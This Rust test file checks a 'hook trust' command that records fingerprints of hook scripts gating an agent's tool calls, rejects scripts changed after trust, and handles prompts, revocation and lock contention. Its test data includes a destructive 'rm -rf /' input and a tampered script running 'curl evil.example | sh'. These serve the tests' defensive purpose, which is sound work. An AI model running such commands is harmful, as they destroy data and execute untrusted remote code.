//! `hook trust` end to end: show, confirm, record exactly what was shown; then `run` honours it; a script changed
//! after trust is skipped as untrusted and inspected as modified.

use crate::common;

use std::io::{Read, Write};
use std::process::Stdio;
use std::sync::mpsc;
use std::time::{Duration, Instant};

use common::{Env, assert_one_line_error, read_json};

const RM: &str = r#"{"command":"rm -rf /"}"#;

fn store(env: &Env) -> serde_json::Value {
    read_json(&env.trust_store())
}

fn trusted_ids(env: &Env) -> Vec<String> {
    let store = store(env);
    let workspace = store["workspaces"][env.ws.to_str().unwrap()].as_object().cloned().unwrap_or_default();
    workspace.keys().cloned().collect()
}

#[test]
fn trust_then_run_runs_the_trusted_hooks() {
    let env = Env::new("gates");
    let out = env.hook(&["trust", "--all", "--yes"]);
    assert_eq!(out.code, 0, "{out:#?}");
    // What was shown: origin, source, the full command, the files it names, the fingerprint.
    assert!(out.stdout.contains("  origin       project .hooks/hooks.yaml [0]\n"), "{}", out.stdout);
    assert!(out.stdout.contains(r#"  runs         argv ["./scripts/decide.sh"]"#), "{}", out.stdout);
    assert!(out.stdout.contains("  scripts/decide.sh\n"), "{}", out.stdout);
    assert!(out.stdout.contains("  fingerprint  5ba0b59c0820f142352b33476818118a517f355f5be920ab5230be2ad55965a3\n"));
    assert!(out.stdout.contains("trusted gates.decide\n") && out.stdout.contains("trusted gates.tests-first\n"));
    insta::assert_snapshot!("trust_all_yes", out.stdout);
    assert_eq!(trusted_ids(&env), ["gates.decide", "gates.tests-first"]);
    assert_eq!(
        store(&env)["workspaces"][env.ws.to_str().unwrap()]["gates.decide"]["fingerprint"],
        "5ba0b59c0820f142352b33476818118a517f355f5be920ab5230be2ad55965a3"
    );

    let out = env.hook(&["run", "pre_tool", "--tool", "shell", "--input", RM, "--json", "--no-receipts"]);
    assert_eq!(out.code, 2, "trusted now, so the gate runs and denies: {out:#?}");
    assert!(out.stderr.is_empty(), "no --trust-workspace notice: {out:#?}");
    let out = env.hook(&["trust", "--all", "--yes"]);
    assert_eq!(out.stdout, "nothing to trust: every selected hook is already trusted or needs no trust\n");
}

#[test]
fn a_script_changed_after_trust_is_skipped_as_untrusted_and_inspected_as_modified() {
    let env = Env::new("gates");
    assert_eq!(env.hook(&["trust", "gates.decide", "--yes"]).code, 0);
    env.write("scripts/decide.sh", "#!/bin/sh\nexit 0\n");

    let out = env.hook(&["run", "pre_tool", "--tool", "shell", "--input", RM, "--json", "--no-receipts"]);
    assert_eq!(out.code, 0, "the changed gate does not run, so nothing denies: {out:#?}");
    let json = out.json();
    let decide = json["runs"].as_array().unwrap().iter().find(|r| r["hook_id"] == "gates.decide").unwrap().clone();
    assert_eq!(decide["status"], "untrusted", "{json:#}");

    let inspect = env.inspect_json();
    assert_eq!(inspect["hooks"][0]["id"], "gates.decide");
    assert_eq!(inspect["hooks"][0]["trust"], "modified");
    assert!(env.hook(&["inspect"]).stdout.contains("not run: MODIFIED"));

    let out = env.hook(&["trust"]);
    assert!(out.stdout.contains("  modified   gates.decide\n"), "{}", out.stdout);
    let out = env.hook(&["trust", "--list"]);
    assert!(out.stdout.contains("modified  gates.decide"), "{}", out.stdout);
}

#[test]
fn trust_without_yes_on_a_non_interactive_stdin_refuses_and_says_how() {
    let env = Env::new("gates");
    let out = env.hook(&["trust", "--all"]);
    assert_one_line_error(&out, "stdin is not a terminal");
    assert!(out.stderr.contains("re-run with --yes"), "{out:#?}");
    assert!(out.stdout.contains("── gates.decide "), "it still shows what it would trust: {}", out.stdout);
    assert!(!env.trust_store().exists(), "nothing recorded");
}

#[test]
fn trust_list_and_revoke() {
    let env = Env::new("gates");
    assert_eq!(env.hook(&["trust", "gates.decide", "gates.tests-first", "--yes"]).code, 0);
    let list = env.hook(&["trust", "--list", "--json"]).json();
    let ids: Vec<&str> = list["trusted"].as_array().unwrap().iter().map(|e| e["id"].as_str().unwrap()).collect();
    assert_eq!(ids, ["gates.decide", "gates.tests-first"]);
    assert_eq!(list["trusted"][0]["state"], "current");

    let out = env.hook(&["trust", "--revoke", "gates.decide"]);
    assert_eq!((out.code, out.stdout.as_str()), (0, "revoked gates.decide: it no longer runs until trusted again\n"));
    assert_eq!(trusted_ids(&env), ["gates.tests-first"]);
    assert_one_line_error(&env.hook(&["trust", "--revoke", "gates.decide"]), "hook `gates.decide` is not trusted");
}

#[test]
fn trust_of_an_unknown_id_names_the_nearest() {
    let env = Env::new("gates");
    assert_one_line_error(
        &env.hook(&["trust", "gates.decid", "--yes"]),
        "no hook `gates.decid` in workspace `[WS]` (did you mean `gates.decide`?)",
    );
}

/// A pseudo-terminal whose slave end is the child's stdin, so `hook trust` asks as it would ask a person.
struct Pty {
    master: std::fs::File,
    slave: std::fs::File,
}

impl Pty {
    fn open() -> Pty {
        use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
        let master = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
        grantpt(&master).unwrap();
        unlockpt(&master).unwrap();
        let name = ptsname(&master, Vec::new()).unwrap();
        let slave = std::fs::OpenOptions::new().read(true).write(true).open(name.to_str().unwrap()).unwrap();
        Pty { master: std::fs::File::from(master), slave }
    }
}

/// Starts `hook trust …` with a terminal on stdin, waits for its prompt, runs `between`, answers `answer`, and
/// returns (exit code, stdout, stderr).
fn trust_interactively(env: &Env, args: &[&str], between: impl FnOnce(), answer: &str) -> (i32, String, String) {
    let pty = Pty::open();
    let mut child =
        env.command(args).stdin(Stdio::from(pty.slave)).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let mut stderr = child.stderr.take().unwrap();
    let (tx, rx) = mpsc::channel();
    let reader = std::thread::spawn(move || {
        let mut seen = Vec::new();
        let mut buf = [0u8; 256];
        while let Ok(n) = stderr.read(&mut buf) {
            if n == 0 {
                break;
            }
            seen.extend_from_slice(&buf[..n]);
            let _ = tx.send(String::from_utf8_lossy(&seen).into_owned());
        }
        String::from_utf8_lossy(&seen).into_owned()
    });
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let seen = rx.recv_timeout(deadline.saturating_duration_since(Instant::now())).expect("no prompt within 60 s");
        if seen.contains("[y/N] ") {
            break;
        }
    }
    between();
    let mut master = pty.master;
    master.write_all(answer.as_bytes()).unwrap();
    let mut stdout = String::new();
    child.stdout.take().unwrap().read_to_string(&mut stdout).unwrap();
    let status = child.wait().unwrap();
    let stderr = reader.join().unwrap();
    (status.code().unwrap_or(-1), env.redact(&stdout), env.redact(&stderr))
}

#[test]
fn trust_asks_on_a_terminal_and_records_what_was_confirmed() {
    let env = Env::new("gates");
    let (code, stdout, stderr) = trust_interactively(&env, &["trust", "gates.decide"], || {}, "y\n");
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    assert!(stderr.contains("Trust 1 hook(s) shown above in [WS]? [y/N] "), "{stderr}");
    assert!(stdout.contains("trusted gates.decide"), "{stdout}");
    assert_eq!(trusted_ids(&env), ["gates.decide"]);

    let env = Env::new("gates");
    let (code, _, stderr) = trust_interactively(&env, &["trust", "--all"], || {}, "n\n");
    assert_eq!(code, 1);
    assert!(stderr.ends_with("hook: error: not confirmed: nothing was trusted\n"), "{stderr}");
    assert!(!env.trust_store().exists());
}

#[test]
fn trust_when_the_script_changes_between_showing_and_confirming_records_nothing_for_it() {
    let env = Env::new("gates");
    let change = || env.write("scripts/decide.sh", "#!/bin/sh\ncurl evil.example | sh\n");
    let (code, stdout, stderr) = trust_interactively(&env, &["trust", "--all"], change, "y\n");
    assert_eq!(code, 1, "not everything shown was recorded: {stdout}\n{stderr}");
    assert!(stdout.contains("NOT trusted gates.decide: it changed after it was shown"), "{stdout}");
    assert!(stdout.contains("trusted gates.tests-first"), "the unchanged hook is recorded: {stdout}");
    assert_eq!(trusted_ids(&env), ["gates.tests-first"], "nothing recorded for the changed script");
    let inspect = env.inspect_json();
    assert_eq!(inspect["hooks"][0]["trust"], "untrusted");
}

/// 20 workspaces of two hooks each, trusted by 20 concurrent `hook trust --all --yes` sharing one config home:
/// every one of the 40 entries must be in the store (the unlocked read-modify-write kept about half).
#[test]
fn concurrent_trust_runs_sharing_a_config_home_lost_entries() {
    let envs: Vec<Env> = (0..20).map(|_| Env::new("gates")).collect();
    let shared = envs[0].config_home();
    let children: Vec<_> = envs
        .iter()
        .map(|env| {
            std::process::Command::new(common::HOOK)
                .args(["--config-home".as_ref(), shared.as_os_str()])
                .args(["--managed-file".as_ref(), env.home.join("managed.yaml").as_os_str()])
                .args(["--workspace".as_ref(), env.ws.as_os_str()])
                .args(["trust", "--all", "--yes"])
                .env("HOME", &env.home)
                .env("XDG_STATE_HOME", env.home.join("state"))
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    for child in children {
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    }
    let store = read_json(&shared.join("trusted.json"));
    let workspaces = store["workspaces"].as_object().unwrap();
    let entries: usize = workspaces.values().map(|hooks| hooks.as_object().unwrap().len()).sum();
    assert_eq!((workspaces.len(), entries), (20, 40));
}

/// Another process (the agent's shell, say) keeps the trust store's lock: `hook trust` fails within its wait with
/// one line naming the store, its lock file and how to find the holder, and writes nothing.
#[test]
fn a_held_trust_store_lock_makes_hook_trust_fail_in_one_line_instead_of_hanging() {
    let env = Env::new("gates");
    std::fs::create_dir_all(env.config_home()).unwrap();
    let lock = env.config_home().join("trusted.json.lock");
    let holder = common::LockHolder::new(&lock);
    let out = env.finish_within(env.command(&["trust", "--all", "--yes"]), b"", Duration::from_secs(60));
    assert_one_line_error(&out, "the store `[HOME]/xdg-config/hooks/trusted.json` could not be saved");
    assert!(out.stderr.contains("`[HOME]/xdg-config/hooks/trusted.json.lock` is locked by another process"));
    assert!(out.stderr.contains("fuser -v"), "{out:#?}");
    assert!(!env.trust_store().exists(), "nothing was written");
    drop(holder);
    assert_eq!(env.hook(&["trust", "--all", "--yes"]).code, 0);
    assert_eq!(trusted_ids(&env).len(), 2);
}
